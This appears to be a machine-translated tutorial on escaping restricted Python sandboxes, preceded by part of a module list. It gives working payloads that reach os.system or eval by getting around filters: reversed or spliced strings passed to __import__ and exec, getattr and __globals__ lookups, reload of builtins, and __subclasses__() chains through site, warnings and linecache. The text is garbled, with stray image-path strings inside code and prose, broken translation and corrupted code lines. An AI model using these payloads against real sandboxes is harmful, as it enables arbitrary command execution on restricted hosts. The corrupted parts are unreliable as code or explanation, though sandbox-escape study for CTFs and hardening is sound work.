         'threading', '_markupbase', 'datetime', 'ossaudiodev', 'time', '_md5', 'dbm', 'parser', 'timeit', '_multibytecodec', 'dbus', 'pathlib', 'token', '_multiprocessing', 'deb822', 'pcardext', 'tokenize', '_opcode', 'debconf', 'pdb', 'trace', '_operator', 'debian', 'pexpect','traceback', '_osx_support', 'debian_bundle', 'pickle', 'tracemalloc', '_pickle', 'decimal', 'pickletools', 'tty', '_posixsubprocess', 'defer', 'pipes', 'turtle',
          '_pydecimal', 'difflib', 'pkg_resources', 'types', '_pyio', 'dis', 'pkgutil', 'typing', '_random', 'distro_info', 'platform', 'ufw', '_sha1', 'distro_info_test', 'plistlib', 'unicodedata', '_sha256', 'distutils', 'poplib', 'unittest', '_sha3', 'doctest', 'posix', 'urllib', '_sha512', 'dummy_threading', 'posixpath', 'urllib3', '_signal', 'email', 'pprint', 'usbcreator', '_sitebuiltins', 'encodings', 'problem_report', 'uu', '_socket', 'enum', 'profile', 'uuid', '_sqlite3', 'errno', 'pstats', 'venv', '_sre', 'faulthandler', 'pty', 'wadllib', '_ssl', 'fcntl', 'ptyprocess', 'warnings', '_stat', 'filecmp', 'pwd', 'wave', '_string', 'fileinput',
           'py_compile', 'weakref', '_strptime', 'fnmatch', 'pyatspi', 'webbrowser', '_struct','formatter', 'pyclbr', 'wsgiref', '_symtable', 'fractions', 'pydoc', 'xdg', '_sysconfigdata_m_linux_x86_64-linux-gnu', 'ftplib', 'pydoc_data', 'xdrlib', '_testbuffer', 'functools', 'pyexpat', 'xkit', '_testcapi', 'gc', 'pygtkcompat', 'xml', '_testimportmultiple', 'genericpath', 'pymacaroons', 'xmlrpc', '_testmultiphase', 'getopt', 'pyrfc3339', 'xxlimited',
            '_thread', 'getpass', 'pytz', 'xxsubtype', '_threading_local', 'gettext', 'queue', 'yaml', '_tracemalloc', 'gi', 'quopri', 'zipapp', '_warnings', 'glob', 'random', 'zipfile', '_weakref', 'grp', 're', 'zipimport', '_weakrefset', 'gtweak', 'readline', 'zlib', '_yaml', 'gzip', 'reportlab', 'zope', 'abc', 'hashlib', 'reprlib', 'aifc', 'heapq']

2. Sandbox escape

To get to the point, first introduce some methods. The specific construction of payload s usually needs to be combined.

Fancy import

Disabling import os is definitely not safe because:


Can achieve the same effect as import os.
Even if multiple spaces are filtered, what python can import is

import: import('os')´╝îimport, importlib: importlib.import_module('os').system('ls')
It can also be implemented through execfile (restrict python2.x, 3 to delete this module):
But it can be achieved indirectly
with open('/usr/lib/python3.6/','r') as f:

Fancy processing string

Some dangerous strings, such as os, eval and so on, are often forbidden in sandbox. But you can use the fancy string processing method, not directly through "os" to import, but through "os" alias to import.
Take the introduction of os library as an example.
If the sandbox ban has an os library, if there is an os in the code, it must not be executed. However, the os can be introduced indirectly through other operations:

 > __import__('so'[::-1]).system('ls')  #Reverse print
 > b = 'o'
   a = 's'
   __import__(a+b).system('ls')     #Character mosaic

 >>>eval(')"imaohw"(metsys.)"so"(__tropmi__'[::-1])  #eval function
>>> exec(')"imaohw"( ;so tropmi'[::-1])    #exec function

However, in general, eval and exec are filtered because they are also dangerous.
There are many ways to deform strings:
Reverse order, splicing, base64, hex, rot13, rot1 This operation can be realized, and the deformation mode can be selected according to the specific situation.

Restore sys.modules

sys.modules is a dictionary that stores the loaded module information. If python is the module just started, it is the module that the interpreter automatically loads when it starts. Some libraries (eg:os) are loaded by default, but cannot be used directly, because the module bits in the dictionary are not visible to the current space when they are import ed.

sys.modules['os'] = 'not allowed'
del sys.modules['os']
import os

There's also an import method for builtins(lambda x:1).__globals__['__builtins__'].eval("__import__('os').system('ls')")
(lambda x:1).__globals__['__builtins__'].__dict__['eval']("__import__('os').system('ls')")

Fancy execution function

If the system function is disabled, the system command can not be executed through os.system, and the system can not be realized through the method of processing string, so other ways should be considered to solve this problem.

  1. There are many other functions in the os module that can execute system commands (see functions that can execute system commands at the beginning)

  2. You can also get object methods and attributes through getattr, getattr, and getattribute.
import os
getattr(os, 'metsys'[::-1])('whoami')#If import is not allowed
getattr(getattr(__builtins__, '__tropmi__'[::-1])('so'[::-1]), 'metsys'[::-1])('whoami')

There is an interesting phenomenon about "getattribute":

class Tree(object):
    def __init__(self,name): = name
        self.cate = "plant"
    def __getattribute__(self,obj):
        if obj.endswith("e"):
            return object.__getattribute__(self,obj)return self.call_wind()
    def call_wind(self):
        return "A person in a high position is liable to be attacked"
aa = Tree("Big tree")
print( name ends with e, the returned one is name, so "big tree" is printed out
print(aa.wind)#This command first calls the \\\\\\\\\\\\\\\\\.

3. Through the built-in modules builtin, builtins, builtins and builtins. You need to import to view modules, that is, although these modules are built-in functions (you can use the content without importing), you need to import them if you want to view the information of modules.
>>> __builtin__
Traceback (most recent call last):
  File "<stdin>", line 1, in <module>
NameError: name '__builtin__' is not defined
>>> import __builtin__
>>> __builtin__
<module '__builtin__' (built-in)>

>>> builtins
Traceback (most recent call last):
  File "<stdin>", line 1, in <module>
NameError: name 'builtins' is not defined
>>> import builtins
>>> builtins
<module 'builtins' (built-in)>Builtins? Both. Therefore, they are all represented by builtins.
If the reload inside the builtins is not deleted, you can use reload to recover the deleted danger function (eval...) in the builtins

2.x's reload is built-in. 3.x needs to import, and then import. Reload. The parameter of reload is module, so it can definitely be used to reload other modules, which is mentioned below.

Escape by inheritance

Python supports multiple inheritance. Before 2.2, the judgment search of methods was based on depth first (classic class), and then developed into a limited breadth (new class). Later, the search algorithm of new class became C3 algorithm. All the new classes in Python have an attribute (mro) that is a tuple, which records the inheritance relationship of the class.

>>> ''.__class__.__mro__
(<class 'str'>, <class 'object'>)

An instance of a class will point to the corresponding class of that instance when it gets the properties of the class. The above 'belongs to str class,and it inherits the object class.
At the same time, the functions that determine the inheritance of an instance include base and bases__

>>> ''.__class__.__base__
<class 'object'>
>>> ''.__class__.__bases__
(<class 'object'>,)
>>> class test1:
...     pass
>>> test1.__base__
<class 'object'>

What about using inheritance relationship?
When setting the sandbox, the os is deleted, that is, the os cannot be imported directly. However, if there is a library called ss, and the os is introduced in ss, the os can be obtained through global s.

(globals is the global variable defined in the global namespace where the functionis located. Globals: this attribute is unique to the function and records the value of the global variable of the current file. If a file calls the os, sys and other libraries, but wecan only access a function or an object of the file, then we can access the global variable by using the globals attribute

For example, the site library introduces os.

>>> import site
>>> site.os
<module 'os' from 'C:\\Users\\xx\\AppData\\Local\\Programs\\Python\\Python39\\lib\\'>

In other words, if you can directly refer to site, it is equivalent to the introduction of os. But what if site is also disabled?
Then we can use reload to load os in a fancy way:

>>> import site
>>> osTraceback (most recent call last):
  File "<stdin>", line 1, in <module>
NameError: name 'os' is not defined
>>> os = reload(site.os)
>>> os.system('whoami')

In this way, you can skip not only one step, but also several steps, i.e. a - > OS, B - > A - >OS.

The built-in modules of os have been imported in advance
<class 'site._Printer'>
<class 'site.Quitter'>
<class 'warnings.catch_warnings'>


#A->os example

>>> for i in enumerate(''.__class__.__mro__[-1].__subclasses__()): print i
(0, <type 'type'>)
(1, <type 'weakref'>)
(2, <type 'weakcallableproxy'>)
(3, <type 'weakproxy'>)
(4, <type 'int'>)
(5, <type 'basestring'>)
(6, <type 'bytearray'>)
(7, <type 'list'>)
(8, <type 'NoneType'>)
(9, <type 'NotImplementedType'>)
(10, <type 'traceback'>)
(11, <type 'super'>)
(12, <type 'xrange'>)
(13, <type 'dict'>)
(14, <type 'set'>)
(15, <type 'slice'>)
(16, <type 'staticmethod'>)
(17, <type 'complex'>)
(18, <type 'float'>)
(19, <type 'buffer'>)
(20, <type 'long'>)(21, <type 'frozenset'>)
(22, <type 'property'>)
(23, <type 'memoryview'>)
(24, <type 'tuple'>)
(25, <type 'enumerate'>)
(26, <type 'reversed'>)
(27, <type 'code'>)
(28, <type 'frame'>)
(29, <type 'builtin_function_or_method'>)
(30, <type 'instancemethod'>)
(31, <type 'function'>)
(32, <type 'classobj'>)
(33, <type 'dictproxy'>)
(34, <type 'generator'>)
(35, <type 'getset_descriptor'>)
(36, <type 'wrapper_descriptor'>)
(37, <type 'instance'>)
(38, <type 'ellipsis'>)
(39, <type 'member_descriptor'>)
(40, <type 'file'>)
(41, <type 'PyCapsule'>)
(42, <type 'cell'>)(43, <type 'callable-iterator'>)
(44, <type 'iterator'>)
(45, <type 'sys.long_info'>)
(46, <type 'sys.float_info'>)
(47, <type 'EncodingMap'>)
(48, <type 'fieldnameiterator'>)
(49, <type 'formatteriterator'>)
(50, <type 'sys.version_info'>)
(51, <type'sys.flags'>)
(52, <type 'exceptions.BaseException'>)
(53, <type 'module'>)
(54, <type 'imp.NullImporter'>)
(55, <type 'zipimport.zipimporter'>)
(56, <type'posix.stat_result'>)
(57, <type 'posix.statvfs_result'>)
(58, <class 'warnings.WarningMessage'>)
(59, <class 'warnings.catch_warnings'>)
(60, <class '_weakrefset._IterationGuard'>)
(61, <class '_weakrefset.WeakSet'>)
(62, <class '_abcoll.Hashable'>)
(63, <type 'classmethod'>)
(64, <class '_abcoll.Iterable'>)
(65, <class '_abcoll.Sized'>)
(66, <class '_abcoll.Container'>)
(67, <class '_abcoll.Callable'>)
(68, <type 'dict_keys'>)
(69, <type 'dict_items'>)
(70, <type 'dict_values'>)
(71, <class 'site._Printer'>)
(72, <class 'site._Helper'>)
(73, <type '_sre.SRE_Pattern'>)
(74, <type '_sre.SRE_Match'>)
(75, <type '_sre.SRE_Scanner'>)
(76, <class 'site.Quitter'>)
(77, <class 'codecs.IncrementalEncoder'>)
(78, <class 'codecs.IncrementalDecoder'>)
>>> ''.__class__.__mro__[-1].__subclasses__()[71]._Printer__setup.__globals__['os']
<module 'os' from '/usr/lib/python2.7/os.pyc'

#Example 2
>>> [].__class__.__base__.__subclasses__()[59].__init__.func_globals['linecache'].__dict__.keys()
['updatecache', 'clearcache', '__all__', '__builtins__', '__file__', 'cache', 'checkcache', 'getline', '__package__', 'sys', 'getlines', '__name__', 'os', '__doc__']
>>> a=[].__class__.__base__.__subclasses__()[60].__init__.func_globals['linecache'].__dict__.values()[12]
<module 'os' from '/usr/lib/python2.7/os.pyc'>
#Importsuccessfully and continue to use
>>> a.__dict__.keys()[79]
>>> b=a.__dict__.values()[79]
>>> b
<built-in function system>
>>> b('whoami')

Two examples show that os appears after execution.# This example is limited to python2.x
 >>> import warnings
 >>> warnings.os Traceback (most recent call last):   File "<stdin>", line 1, in <module> AttributeError: 'module' object has no attribute 'os'>>> warnings.linecache
 <module 'linecache' from '/usr/lib/python2.7/linecache.pyc'>
>>> warnings.linecache.os
 <module 'os' from '/usr/lib/python2.7/os.pyc'>
 #So the inheritance chain can be written like this
>>> [].__class__.__base__.__subclasses__()[59].__init__.__globals__['linecache'].__dict__['os'].system('whoami')


#There is also a function available in the warnings library, warnings.catch_warnings, which has a_module attribute
>>> [x for x in (1).__class__.__base__.__subclasses__() if x.__name__ == 'catch_warnings'][0]()._module.linecache.os.system('whoami')

#Although there is no linecache in warnings in 3.x, there are also "builtins"__
>>> ''.__class__.__mro__[-1].__subclasses__()[117].__init__.__globals__['system']('whoami')

#In py3.x, there are < class' OS. \
>>> ''.__class__.__mro__[-1].__subclasses__()[117].__init__.__globals__['system']('whoami')

#If the object can be used, the above formula can be simplified:
>>> object.__subclasses__()[117].__init__.__globals__['system']('whoami')

#Use the call of builtin function or method
"".__class__.__mro__[-1].__subclasses__()[29].__call__(eval, '1+1')

#The aboveformula can be simplified
[].__getattribute__('append').__class__.__call__(eval, '1+1')

#There's another way to use it
class test(dict):
    def __init__(self):
        print(super(test, self).keys.__class__.__call__(eval, '1+1'))
 # If it is 3.x, it can be abbreviated as:
       # super().keys.__class__.__call__(eval, '1+1'))

Through the above description, we can know that through the function inheritance, we can realize the function needed to import in a variety of ways to achieve the desired escape purpose.
